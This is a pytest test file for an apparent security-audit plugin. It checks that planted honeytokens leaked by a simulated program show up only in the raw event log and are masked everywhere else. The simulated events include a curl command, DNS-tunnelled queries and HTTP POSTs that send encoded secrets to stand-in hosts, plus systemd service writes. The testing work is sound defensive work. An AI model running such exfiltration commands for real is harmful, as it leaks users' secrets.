"""What was planted, and people's data, is in the raw log and nowhere else: not in a file that is
given away, not on a terminal, not in what a failing test prints."""

from __future__ import annotations

import base64
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import msgspec
import pytest

import pytest_ato.audit.auditor
import pytest_ato.plugin.audits
import pytest_ato.plugin.items
import pytest_ato.plugin.terminal
from pytest_ato.detectors import registry
from pytest_ato.eventlog import read_log
from pytest_ato.model import events as ev
from pytest_ato.model.spec import AuditSpec

sys.path.insert(0, str(Path(__file__).parents[1] / "plugin"))
from scripted_capture import CHILD, ROOT, ScriptedCapture

sys.path.pop(0)

registry.load()  # pytester forgets modules; extension modules do not stand to be loaded twice

CARD, MAIL = "4111 1111 1111 1111", "jane.q.public"
TEST = """
def test_it(findings):
    assert not findings.exfil
    assert not findings

def test_that(findings):
    raise RuntimeError(f"{findings} {findings.exfil} {list(findings)}")
"""


class Leaking(ScriptedCapture):
    """Plays a program that has the planted values in everything that a program can choose."""

    def _events(self, spec: AuditSpec, acts: list[str]) -> Iterator[ev.Event]:
        base = list(super()._events(spec, acts))
        yield from base[:-1]
        now = time.monotonic_ns()
        for number, value in enumerate(secrets_of(spec.env), CHILD + 1):
            yield from _told(now + 10 * number, number, value.encode(), spec.home)
        yield base[-1]


def _told(now: int, pid: int, value: bytes, home: str) -> Iterator[ev.Event]:
    twice = base64.b64encode(base64.b64encode(value))
    forms = (value, base64.b64encode(value), value.hex().encode(), value[::-1], twice)
    yield ev.Fork(ts=now, pid=ROOT, child=pid)
    for form in forms:
        text = form.decode()
        yield ev.Exec(
            ts=now,
            pid=pid,
            path=f"/tmp/{text}",
            file=f"/memfd:{text}",
            links=0,
            argv=("sh", "-c", f"curl -H 'X: {text}' {MAIL}@vendor.example '{CARD}'"),
            stdio=("tcp", "tcp", "tcp"),
        )
        path = f"{home}/.config/systemd/user/{text}.service"
        yield ev.Open(ts=now, pid=pid, call="openat", path=path, file=path, flags=0o101)
        labels = b".".join(text.encode()[at : at + 40] for at in range(0, len(text), 40))
        yield ev.Dns(
            ts=now,
            client="198.51.100.2",
            server="198.51.100.1",
            transport="udp",
            qname=f"{labels.decode()}.drop.example",
            qtype="A",
            rcode="NOERROR",
        )
        request = f"POST /{text} HTTP/1.1\r\nHost: {text[:20]}.example\r\nX: {text}\r\n\r\n{text}"
        yield ev.Tcp(
            ts=now,
            connection=pid,
            client="198.51.100.2",
            client_port=4001,
            address="203.0.113.9",
            port=80,
            direction="out",
            data=request,
        )
        yield ev.Output(ts=now, stream="stdout", data=f"{text} {CARD} {MAIL}@vendor.example\n")


def secrets_of(variables: dict[str, str]) -> list[str]:
    """The planted values among the target's variables."""
    return [value for value in variables.values() if len(value) >= 30 and value.isascii()][:4]


@pytest.fixture(autouse=True)
def _leaking(monkeypatch: pytest.MonkeyPatch) -> None:
    """Have every audit of this process leak."""
    monkeypatch.setattr(pytest_ato.audit.auditor, "choose", lambda *_: Leaking())


def shown(text: bytes, values: list[str]) -> list[str]:
    """What of the values can be read in `text`: 16 characters of one in a row, in any form."""
    found = [word for word in (CARD, MAIL) if word.encode() in text]
    for value in values:
        for at in range(0, len(value) - 15, 2):
            part = value[at : at + 16].encode()
            longer = value[at : at + 20].encode()
            forms = [part, part[::-1], part.hex().encode()]
            if len(longer) == 20:  # then 22 characters of base64 hold 16 of it, however it lies
                once = [base64.b64encode(b"." * shift + longer)[4:26] for shift in range(3)]
                forms += [*once, *map(base64.b64encode, once)]
            found += [form.decode() for form in forms if form in text]
    return found


def markers(log: Path) -> list[str]:
    """The minted values of the variables, of an event log."""
    tokens = [event for event in read_log(log) if isinstance(event, ev.Honeytoken)]
    return [value for token in tokens if token.variable for value in token.markers.values()]


def program(place: Path) -> Path:
    made = place / "vendor" / "vendor-agent"
    made.parent.mkdir()
    made.write_text("#!/bin/sh\n")
    made.chmod(0o755)
    return made


def test_no_file_but_the_raw_log_and_no_terminal_shows_them(
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    from pytest_ato.cli import main

    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(tmp_path / "summary.md"))
    assert main(["run", "--report-dir=r", str(program(tmp_path))]) == 1
    written = capsys.readouterr()
    folder = tmp_path / "r" / "vendor-agent"
    values = markers(folder / "events.jsonl")
    assert len(values) >= 3
    assert len(shown((folder / "events.jsonl").read_bytes(), values)) > 50  # this looks closely
    places = {path.name: path.read_bytes() for path in folder.iterdir()}
    places |= {"lasting log": (tmp_path / "r" / "evidence.log").read_bytes()}
    places |= {"summary": (tmp_path / "summary.md").read_bytes()}
    places |= {"terminal": (written.out + written.err).encode()}
    for name in ("attestation.dsse.json", "test-result.dsse.json"):
        # Decoded: as base64, names of hosts can look like a part of a planted token in base64.
        places[name] = base64.b64decode(msgspec.json.decode(places[name])["payload"])
    del places["events.jsonl"]
    assert len(places) > 12
    assert {name: found for name, text in places.items() if (found := shown(text, values))} == {}


def test_no_failing_test_prints_them(pytester: pytest.Pytester) -> None:
    pytester.makepyfile(TEST)
    target = program(pytester.path).relative_to(pytester.path)
    arguments = (
        f"--ato-target={target}",
        "-vv",
        "-rA",
        "--showlocals",
    )
    result = pytester.runpytest_inprocess(
        *("-p", "ato", "-p", "no:cacheprovider", "-p", "no:hypothesispytest"), *arguments
    )
    assert result.ret == 1
    text = result.stdout.str() + result.stderr.str()
    assert "honeytoken_exfil" in text
    assert "RuntimeError" in text
    log = pytester.path / "ato-report" / "vendor-agent" / "events.jsonl"
    assert shown(text.encode(), markers(log)) == []


def test_unmasked_reports_show_them_and_the_evidence_log_never_does(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from pytest_ato.cli import main

    monkeypatch.chdir(tmp_path)
    assert main(["run", "--report-dir=r", "--unmask", "--quiet", str(program(tmp_path))]) == 1
    folder = tmp_path / "r" / "vendor-agent"
    values = markers(folder / "events.jsonl")
    assert shown((folder / "report.json").read_bytes(), values)
    assert shown((folder / "evidence.log").read_bytes(), values) == []
    assert shown((tmp_path / "r" / "evidence.log").read_bytes(), values) == []
